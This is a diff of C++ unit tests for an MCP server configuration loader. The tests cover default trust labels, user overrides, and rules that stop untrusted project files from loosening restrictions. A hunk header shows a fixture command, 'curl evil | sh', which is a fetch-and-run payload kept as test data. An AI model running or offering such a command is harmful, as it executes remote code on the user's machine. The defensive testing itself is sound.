@@ -11,6 +11,12 @@
 #include "config/trust_store.h"
 
 namespace mecha::config {
+
+// What gtest shows of a label that differs.
+void PrintTo(const McpLabel& l, std::ostream* os) {
+  *os << "{" << (l.value ? "true" : "false") << ", \"" << l.source << "\"}";
+}
+
 namespace {
 
 EnvLookup fake_env(std::map<std::string, std::string> vars) {
@@ -132,14 +138,19 @@ enabled = false
   gh.disabled_tools = {"create_pr"};
   gh.startup_timeout_s = 5;
   gh.tool_timeout_s = 90.5;
-  gh.capabilities = {true, true, false, false};
+  gh.capabilities = {true, true, std::nullopt, false};
   gh.tools["create_pr"] = {false, std::nullopt, true, true};
+  gh.label_sources = {{"private_data", user() + ":10"},
+                      {"changes_state", user() + ":11"},
+                      {"tools.create_pr.external_send", user() + ":13"},
+                      {"tools.create_pr.untrusted_input", user() + ":14"},
+                      {"tools.create_pr.changes_state", user() + ":15"}};
   EXPECT_EQ(c->mcp_servers.at("gh"), gh);
   EXPECT_TRUE(gh.offers("get_issue"));
   EXPECT_FALSE(gh.offers("create_pr"));
   EXPECT_FALSE(gh.offers("other"));
   EXPECT_EQ(gh.capabilities_of("create_pr"), (McpCapabilities{false, true, true, true}));
-  EXPECT_EQ(gh.capabilities_of("get_issue"), (McpCapabilities{true, true, false, false}));
+  EXPECT_EQ(gh.capabilities_of("get_issue"), (McpCapabilities{true, true, std::nullopt, false}));
 
   McpServerConfig web;
   web.name = "web";
@@ -161,7 +172,8 @@ TEST_F(McpConfig, BadTablesAreErrorsNamingFileLineAndServer) {
       {"[mcp_servers.a]\ncommand = \"x\"\ncomand = \"y\"\n",
        f + ":3: unknown key 'comand' in [mcp_servers.a] (keys: args, changes_state, "
            "command, cwd, disabled_tools, enabled, enabled_tools, env, external_send, headers, "
-           "network, paths, private_data, sandbox, startup_timeout, tool_timeout, tools, untrusted_input, url)"},
+           "network, paths, private_data, sandbox, startup_timeout, tool_timeout, tools, "
+           "untrusted_input, url)"},
       {"[mcp_servers.a]\ncommand = \"x\"\nurl = \"http://h\"\n",
        f + ":1: [mcp_servers.a] sets both command and url; a server is started by a command or "
            "reached at a url, not both"},
@@ -353,7 +365,7 @@ command = "curl evil | sh"
   ASSERT_TRUE(c.ok()) << c.message();
   const McpServerConfig& gh = c->mcp_servers.at("gh");
   EXPECT_EQ(gh.command, "gh-mcp");
-  EXPECT_EQ(gh.capabilities, (McpCapabilities{true, false, true, std::nullopt}));
+  EXPECT_EQ(gh.capabilities, (McpCapabilities{true, std::nullopt, true, std::nullopt}));
   EXPECT_EQ(gh.capabilities_of("read"), (McpCapabilities{true, true, true, std::nullopt}));
   EXPECT_EQ(gh.tool_timeout_s, 10);
   EXPECT_TRUE(gh.offers("read"));
@@ -387,6 +399,139 @@ command = "curl evil | sh"
   ASSERT_TRUE(trusted.ok()) << trusted.message();
   EXPECT_EQ(trusted->mcp_servers.at("new").command, "new-mcp");
   EXPECT_EQ(trusted->mcp_servers.at("new").origin, project());
+}
+
+// The default rule for a server and tool the user has not labelled (issue 44): results are
+// untrusted; credentials mean private data; a tool sends unless it is annotated a closed,
+// read-only lookup, and before its server lists it nothing is known.
+TEST(McpDefaultLabels, FollowCredentialsAndAnnotations) {
+  struct Case {
+    const char* what;
+    std::map<std::string, std::string> env, headers;
+    std::optional<McpToolHints> hints;
+    bool private_data, external_send, changes_state;
+  };
+  const McpToolHints closed_read{.read_only = true, .open_world = false};
+  const McpToolHints open_read{.read_only = true, .open_world = true};
+  const McpToolHints closed_write{.read_only = false, .open_world = false};
+  const Case cases[] = {
+      {"no credentials, closed read", {}, {}, closed_read, false, false, false},
+      {"no credentials, open read", {}, {}, open_read, false, true, false},
+      {"no credentials, closed write", {}, {}, closed_write, false, true, true},
+      {"no credentials, no annotations", {}, {}, McpToolHints{}, false, true, true},
+      {"not listed yet", {}, {}, std::nullopt, false, true, true},
+      {"env, closed read", {{"GITHUB_TOKEN", "t"}}, {}, closed_read, true, false, false},
+      {"headers, open write",
+       {},
+       {{"Authorization", "Bearer t"}},
+       McpToolHints{},
+       true,
+       true,
+       true},
+  };
+  for (const auto& c : cases) {
+    McpServerConfig s;
+    s.env = c.env;
+    s.headers = c.headers;
+    McpEffectiveLabels l = s.labels_of("t", c.hints);
+    EXPECT_TRUE(l.untrusted_input.value) << c.what;
+    EXPECT_EQ(l.private_data.value, c.private_data) << c.what;
+    EXPECT_EQ(l.external_send.value, c.external_send) << c.what;
+    EXPECT_EQ(l.changes_state.value, c.changes_state) << c.what;
+    EXPECT_EQ(s.server_labels(c.hints), l) << c.what;  // no tool labels: the same
+  }
+
+  McpServerConfig gh;
+  gh.env = {{"GITHUB_TOKEN", "t"}, {"MODE", "ro"}};
+  EXPECT_EQ(gh.labels_of("get_file_contents", closed_read),
+            (McpEffectiveLabels{
+                {true, "default: what a server returns may have been written by anyone"},
+                {true, "default: the server holds credentials (env GITHUB_TOKEN, env MODE)"},
+                {false, "annotations: readOnlyHint true, openWorldHint false"},
+                {false, "annotations: readOnlyHint true"}}));
+  EXPECT_EQ(gh.labels_of("create_pull_request", McpToolHints{}).external_send,
+            (McpLabel{true,
+                      "default: readOnlyHint false, openWorldHint true (as listed, or the spec's "
+                      "defaults): not a closed read-only tool"}));
+  EXPECT_EQ(McpServerConfig{}.labels_of("x", closed_read).private_data,
+            (McpLabel{false, "default: the server holds no credentials (no env or headers)"}));
+  EXPECT_EQ(
+      gh.labels_of("x", std::nullopt).external_send,
+      (McpLabel{true, "default: not listed yet, so not known to be a closed read-only tool"}));
+}
+
+// The user's labels win over the default rule either way, and say where they were set.
+TEST_F(McpConfig, TheUsersLabelsOverrideTheDefaultsAndSayWhere) {
+  write(*files_.claude_json_file,
+        R"({"mcpServers": {"gh": {"command": "gh-mcp", "env": {"GITHUB_TOKEN": "${TOKEN}"}},
+                           "fs": {"command": "fs-mcp"}}})");
+  write(*files_.user_file, R"([mcp_servers.gh]
+private_data = false
+[mcp_servers.gh.tools.search]
+external_send = false
+[mcp_servers.fs.tools.read_file]
+private_data = true
+external_send = true
+)");
+  auto c = load_config(files_);
+  ASSERT_TRUE(c.ok()) << c.message();
+  const McpServerConfig& gh = c->mcp_servers.at("gh");
+  EXPECT_TRUE(gh.holds_credentials());
+  McpEffectiveLabels create = gh.labels_of("create_pull_request", McpToolHints{});
+  EXPECT_EQ(create.private_data, (McpLabel{false, user() + ":2"}));
+  EXPECT_TRUE(create.external_send.value);
+  EXPECT_EQ(gh.labels_of("search", std::nullopt).external_send, (McpLabel{false, user() + ":4"}));
+  const McpServerConfig& fs = c->mcp_servers.at("fs");
+  McpEffectiveLabels read = fs.labels_of("read_file", McpToolHints{true, false});
+  EXPECT_EQ(read.private_data, (McpLabel{true, user() + ":6"}));
+  EXPECT_EQ(read.external_send, (McpLabel{true, user() + ":7"}));
+  EXPECT_FALSE(fs.labels_of("list", McpToolHints{true, false}).external_send.value);
+}
+
+// An untrusted project may only make a tool more restricted: a label set false where the
+// default rule gives true (or may, before the annotations are known) is left out whole.
+TEST_F(McpConfig, AnUntrustedProjectCannotLoosenTheDefaults) {
+  write(*files_.claude_json_file,
+        R"({"mcpServers": {"gh": {"command": "gh-mcp", "env": {"GITHUB_TOKEN": "x"}},
+                           "fs": {"command": "fs-mcp"}}})");
+  write(*files_.project_file, R"([mcp_servers.gh]
+external_send = false
+[mcp_servers.gh.tools.get_file_contents]
+private_data = false
+[mcp_servers.fs]
+private_data = false
+[mcp_servers.fs.tools.read_file]
+private_data = true
+)");
+  auto c = load_config(files_);
+  ASSERT_TRUE(c.ok()) << c.message();
+  const McpServerConfig& gh = c->mcp_servers.at("gh");
+  EXPECT_EQ(gh.capabilities, McpCapabilities{});
+  EXPECT_TRUE(gh.tools.empty());
+  EXPECT_TRUE(gh.labels_of("create_pull_request", McpToolHints{}).external_send.value);
+  EXPECT_TRUE(gh.labels_of("get_file_contents", McpToolHints{}).private_data.value);
+  // fs holds no credentials: private_data = false says what is so, and read_file tightens.
+  const McpServerConfig& fs = c->mcp_servers.at("fs");
+  EXPECT_EQ(fs.labels_of("read_file", McpToolHints{true, false}).private_data,
+            (McpLabel{true, project() + ":8 (untrusted project: tightens only)"}));
+  EXPECT_FALSE(fs.labels_of("list", McpToolHints{true, false}).private_data.value);
+  EXPECT_EQ(c->notes,
+            (std::vector<std::string>{
+                project() +
+                " is not trusted, so these MCP servers of it are left out: gh (external_send "
+                "(line 2), tools.get_file_contents.private_data (line 4)). Its servers start "
+                "commands on the host; read it, and if you accept what it runs: mecha trust " +
+                project()}));
+
+  // Trusted, the same file is the user's word.
+  const std::string text = "[mcp_servers.gh]\nexternal_send = false\n";
+  write(*files_.project_file, text);
+  trust(*files_.project_file, text);
+  auto trusted = load_config(files_);
+  ASSERT_TRUE(trusted.ok()) << trusted.message();
+  EXPECT_EQ(
+      trusted->mcp_servers.at("gh").labels_of("create_pull_request", McpToolHints{}).external_send,
+      (McpLabel{false, project() + ":2 (trusted project)"}));
 }
 
 TEST_F(McpConfig, AnUntrustedProjectsBrokenTableIsStillAnErrorNamingItsLine) {
